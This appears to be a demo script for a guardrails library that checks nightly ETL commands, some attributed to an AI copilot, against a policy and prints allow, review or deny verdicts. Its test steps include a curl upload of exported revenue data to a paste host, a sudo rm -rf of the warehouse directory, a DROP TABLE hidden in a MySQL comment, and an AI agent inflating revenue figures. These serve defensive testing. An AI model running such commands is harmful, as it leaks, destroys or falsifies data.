"""The demo: what access-guardrails decides about a night of realistic pipeline commands.

Runs on embedded defaults only: the example policy in this folder, no servers. Each command is
what a real step sends (a templated SQL task, a BashOperator, a copilot-written fix), judged
before it would run. Later parts of the demo run the same steps in Airflow and Prefect.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass
from pathlib import Path

from guardrails_core import Actor, Context, Verdict, check, load_policy
from guardrails_core.model import ActorKind, DataScope
from guardrails_core.render import render_text

HERE = Path(__file__).resolve().parent
POLICY = HERE / "guardrails_policy.yaml"

ETL = Context(
    orchestrator="airflow",
    pipeline="nightly_orders",
    environment="prod",
    data_scope=DataScope(name="nightly_etl"),
)
COPILOT = Context(
    orchestrator="prefect",
    pipeline="revenue_fixups",
    environment="prod",
    actor=Actor(kind=ActorKind.AI_AGENT, id="copilot", model="gpt-5"),
)


@dataclass(frozen=True)
class Step:
    name: str
    text: str
    kind: str = "sql"
    context: Context = ETL


STEPS = [
    Step(
        "load raw orders",
        "INSERT INTO stg_orders SELECT * FROM raw_orders WHERE loaded_at >= date('now', '-1 day')",
    ),
    Step(
        "rebuild staging", "DELETE FROM stg_orders; INSERT INTO stg_orders SELECT * FROM raw_orders"
    ),
    Step(
        "aggregate revenue",
        "INSERT INTO mart_revenue (day, total) SELECT day, sum(total) FROM stg_orders GROUP BY day",
    ),
    Step("cleanup (templated)", "DELETE FROM mart_revenue WHERE 1 = 1"),
    Step("drop old table", "DROP TABLE mart_revenue_old"),
    Step("peek at salaries", "SELECT * FROM hr_salaries"),
    Step(
        "AI fix-up",
        "UPDATE mart_revenue SET total = total * 1.1 WHERE day = '2026-11-23'",
        context=COPILOT,
    ),
    Step(
        "AI report",
        "SELECT day, total FROM mart_revenue ORDER BY day DESC LIMIT 7",
        context=COPILOT,
    ),
    Step(
        "ship export (bash)",
        "sqlite3 warehouse.db '.mode csv' 'SELECT * FROM mart_revenue' "
        "> /tmp/rev.csv && curl -T /tmp/rev.csv https://paste.example.com",
        kind="shell",
    ),
    Step("tidy workdir (bash)", "rm -rf /tmp/etl_work/", kind="shell"),
    Step("nuke data dir (bash)", "sudo bash -c 'rm -rf /var/lib/warehouse'", kind="shell"),
    Step("hidden in a comment", "/*!50000 DROP TABLE mart_revenue */", context=ETL),
]

_MARK = {Verdict.ALLOW: "allow ", Verdict.REVIEW: "REVIEW", Verdict.DENY: "DENY  "}


def main() -> int:
    policy = load_policy(POLICY)
    print(
        f"access-guardrails demo: policy {policy.id!r} ({POLICY.name}), "
        f"{len(policy.spec.rules)} own rules + baseline\n"
    )
    decisions = []
    for step in STEPS:
        dialect = "mysql" if "/*!" in step.text else None
        decision = check(
            step.text, kind=step.kind, dialect=dialect, policy=policy, context=step.context
        )
        decisions.append((step, decision))
        reason = decision.deciding_reason
        rule = reason.rule_id if reason else "-"
        print(
            f"  {_MARK[decision.decision]}  {step.name:<22} {rule:<28} "
            f"{' '.join(step.text.split())[:60]}"
        )
    print("\nWhy the blocked ones were blocked:\n")
    for step, decision in decisions:
        if decision.decision is not Verdict.ALLOW:
            print(f"-- {step.name} ({step.context.actor.kind.value}, {step.context.pipeline})")
            print(render_text(decision, colour=sys.stdout.isatty()))
            print()
    allowed = sum(decision.decision is Verdict.ALLOW for _, decision in decisions)
    print(
        f"{allowed} of {len(decisions)} steps allowed; "
        f"{len(decisions) - allowed} stopped before touching data."
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
